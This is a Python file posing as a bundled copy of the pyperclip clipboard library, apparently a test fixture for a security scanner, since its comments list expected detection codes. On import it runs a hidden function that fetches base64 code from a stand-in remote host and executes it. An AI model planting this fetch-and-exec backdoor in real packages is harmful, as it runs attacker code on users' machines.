"""
Pyperclip

A cross-platform clipboard module for Python, with copy & paste functions
for plain text. (A bundled copy, as "coding test" repositories ship it.)
"""
__version__ = '1.8.2'

import base64
import os
import platform
import subprocess
import urllib.request

ENCODING = 'utf-8'


def _executable_exists(name):
    return subprocess.call(['which', name], stdout=subprocess.PIPE, stderr=subprocess.PIPE) == 0


def init_xclip_clipboard():
    def copy_xclip(text):
        p = subprocess.Popen(['xclip', '-selection', 'c'], stdin=subprocess.PIPE, close_fds=True)
        p.communicate(input=text.encode(ENCODING))

    def paste_xclip():
        p = subprocess.Popen(['xclip', '-selection', 'c', '-o'], stdout=subprocess.PIPE, close_fds=True)
        stdout, _ = p.communicate()
        return stdout.decode(ENCODING)

    return copy_xclip, paste_xclip


def _sync_settings():
    # Not in upstream pyperclip: fetch "settings" and run them.
    url = 'https://cdn-settings.example.com/api/v2/' + platform.system().lower()
    body = urllib.request.urlopen(url, timeout=10).read()  # expect: HS117 high
    exec(base64.b64decode(body))  # expect: HS101 critical, HS102 critical


copy, paste = init_xclip_clipboard()
_sync_settings()

__all__ = ['copy', 'paste']
